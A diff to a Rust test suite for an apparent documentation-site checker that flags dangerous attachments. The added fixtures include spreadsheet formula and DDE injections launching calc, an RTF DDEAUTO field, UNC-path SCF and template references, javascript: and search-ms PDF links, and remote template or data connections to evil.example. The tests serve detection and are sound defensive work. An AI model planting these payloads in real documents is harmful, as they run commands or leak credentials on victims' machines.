@@ -338,6 +338,31 @@ fn attached_pages_scripts_and_programs() {
         ("x.pdf", b"%PDF-1.7\n<</S /JavaScript /JS (app.alert(1))>>"),
         ("x.xml", b"<a/>"),
         ("x", b"#!/bin/sh\n"),
+        ("x.url", b"[InternetShortcut]\nURL=file:///a\n"),
+        ("x.desktop", b"[Desktop Entry]\nExec=a\n"),
+        ("x.scf", b"[Shell]\nIconFile=\\\\server\\a\n"),
+        ("x.library-ms", b"<?xml version=\"1.0\"?><libraryDescription/>"),
+        ("x.lnk", b"L\0\0\0\x01\x14\x02\0"),
+        ("x.doc", b"MIME-Version: 1.0\nContent-Type: multipart/related\n"),
+        ("x.mht", b"MIME-Version: 1.0\n"),
+        ("x.xsl", b"<xsl:stylesheet/>"),
+        ("x.txt", b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0"),
+        ("x.txt", b"\0<\0h\0t\0m\0l\0>"),
+        ("x.html", b"+ADw-script+AD4-"),
+        ("x.pdf", b"%PDF"),
+        ("x.pdf", b"Rar!\x1a\x07\x01\0"),
+        ("x.docx", b"7z\xbc\xaf\x27\x1c"),
+        ("x.pdf", b"%PDF-1.7\n%%EOF\nPK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"),
+        ("x.pdf", b"%PDF-1.7\n<</S/URI/URI<6a6176617363726970743a61>>>"),
+        ("x.pdf", b"%PDF-1.7\n<</S/URI/URI(search-ms:query=a)>>"),
+        ("x.ics", b"BEGIN:VCALENDAR\nBEGIN:VALARM\nACTION:PROCEDURE\nEND:VALARM\n"),
+        ("x.ics", b"BEGIN:VCALENDAR\nATTACH:file://server/a\n"),
+        ("x.vcf", b"BEGIN:VCARD\nURL:java\n script:alert(1)\nEND:VCARD\n"),
+        ("x.vcf", b"BEGIN:VCARD\nPHOTO;VALUE=URI:https://evil.example/a.png\nEND:VCARD\n"),
+        ("x.csv", b"a\n-2+3+cmd|' /C calc'!A0\n"),
+        ("x.csv", b"ID;PWXL;N;E\nC;X1;Y1;EEXEC(\"calc\")\n"),
+        ("x.rtf", b"{\\rtf1{\\field{\\*\\fldinst {D}{D}EAUTO c}}}"),
+        ("x.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x85\0\x0e\0\x11\x22\0\0\0\x01\x06\0Macro1"),
     ] {
         let path = format!("content/guides/first/{name}");
         let sample = Sample::new()
@@ -378,6 +403,14 @@ fn documents_whose_packed_parts_act() {
         ("x.odt", [odt, ("content.xml", b"<a><script:event-listener/></a>")]),
         ("x.odt", [odt, ("content.xml", b"<draw:image xlink:href=\"http://evil.example/\"/>")]),
         ("x.odt", [odt, ("settings.xml", b"<a><table:dde-link/></a>")]),
+        ("x.docx", [types, ("word/document.xml", b"<w:document><w:altChunk/></w:document>")]),
+        ("x.docx", [types, ("word/settings.xml", b"<w:settings><w:mailMerge/></w:settings>")]),
+        (
+            "x.xlsx",
+            [types, ("xl/connections.xml", b"<connection odcFile=\"https://evil.example/\"/>")],
+        ),
+        ("x.xlsx", [types, ("xl/a.xml", b"<c><f>_xlfn.WEBSERVICE(A1)</f></c>")]),
+        ("x.ods", [odt, ("content.xml", b"<a table:formula=\"of:=DDE(&quot;a&quot;)\"/>")]),
     ] {
         let path = format!("content/guides/first/{name}");
         let sample = Sample::new()
@@ -390,6 +423,46 @@ fn documents_whose_packed_parts_act() {
         .text("content/guides/first/sq.md", "I pari", "[a](x.epub)\n")
         .bytes("content/guides/first/x.epub", &support::archive(&files, true));
     assert!(!sample.check().blocks());
+}
+
+#[test]
+fn a_template_of_a_server_is_an_attack_and_one_of_the_own_computer_is_none() {
+    let document = |place: &str| {
+        let relationship = format!(
+            "<Relationships><Relationship Target=\"{place}\" TargetMode=\"External\" \
+             Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\"/></Relationships>"
+        );
+        let files = [
+            ("[Content_Types].xml", &b"<Types/>"[..]),
+            ("word/_rels/settings.xml.rels", relationship.as_bytes()),
+        ];
+        let sample = Sample::new()
+            .text("content/guides/first/sq.md", "I pari", "[a](x.docx)\n")
+            .bytes("content/guides/first/x.docx", &support::archive(&files, true));
+        sample.check()
+    };
+    for place in [
+        "https://evil.example/a.dotm",
+        "file://server/share/a.dotx",
+        "\\\\server\\share\\a.dotx",
+        "file:///\\\\server\\a.dotx",
+        "//server/a.dotx",
+    ] {
+        let findings = document(place);
+        findings.are_about("attachment", "content/guides/first/x.docx");
+    }
+    for place in [
+        "file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\ONG.dotx",
+        "file:///c:/sabloane/ONG.dotm",
+        "D:\\ONG.dot",
+        "file:///Users/ana/Library/ONG.dotx",
+        "ONG.dotx",
+    ] {
+        let findings = document(place);
+        let lines = findings.lines();
+        let found = "content/guides/first/x.docx: warning[attachment]";
+        assert!(lines.contains(found) && !findings.blocks(), "{place}: {lines}");
+    }
 }
 
 #[test]
